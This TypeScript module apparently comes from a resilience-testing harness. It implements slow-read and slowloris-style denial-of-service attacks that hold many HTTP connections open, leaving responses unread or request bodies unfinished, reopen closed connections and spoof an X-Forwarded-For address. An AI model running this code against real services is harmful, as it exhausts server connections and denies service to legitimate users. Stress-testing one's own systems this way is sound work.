// Attacks with connections that are held open: their responses are not read, or their requests never end.
import { connect, type Socket } from 'node:net'
import { attackerAddress, type Target } from './target.ts'

/** Sends a GET request on each of many connections and never reads the bodies of the responses. */
export function leaveUnread(target: Target, connections: number, path: string): void {
  holdConnections(target, connections, (socket) =>
    socket.write(headOf(target, 'GET', path, [`apikey: ${target.publishableKey}`])),
  )
}

/** Sends a request without the end of its body on each of many connections, half of them with a length, half in chunks. */
export function leaveUnfinished(
  target: Target,
  connections: number,
  { path, key, bytes }: { path: string; key?: string; bytes: number },
): void {
  const body = Buffer.alloc(bytes, ' ')
  holdConnections(target, connections, (socket, number) => {
    const inChunks = number % 2 === 0
    const framing = inChunks ? 'Transfer-Encoding: chunked' : `Content-Length: ${bytes + 1}`
    const headers = ['Content-Type: application/json', framing, ...(key ? [`apikey: ${key}`] : [])]
    socket.write(headOf(target, 'POST', path, headers))
    if (inChunks) socket.write(`${bytes.toString(16)}\r\n`)
    socket.write(body)
  })
}

function headOf({ url }: Target, method: string, path: string, headers: string[]): string {
  const lines = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${new URL(url).host}`,
    `X-Forwarded-For: ${attackerAddress}`,
  ]
  return `${[...lines, ...headers].join('\r\n')}\r\n\r\n`
}

/** Keeps a number of connections open, and replaces those that are refused or closed. */
function holdConnections(
  target: Target,
  connections: number,
  send: (socket: Socket, number: number) => void,
): void {
  const { hostname, port } = new URL(target.url)
  const open = (number: number) => {
    const socket = connect(Number(port), hostname)
    socket.on('error', ({ code }: NodeJS.ErrnoException) => target.note(code ?? 'error'))
    socket.once('close', () => setTimeout(open, 20, number))
    // Reads just the status, after which the socket's buffer fills up and the server has to wait.
    socket.once('readable', () => {
      const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(socket.read(12)?.toString() ?? '') ?? []
      target.note(status ?? 'closed')
      if (status !== '200') socket.destroy()
    })
    send(socket, number)
  }
  for (let number = 0; number < connections; number++) open(number)
}
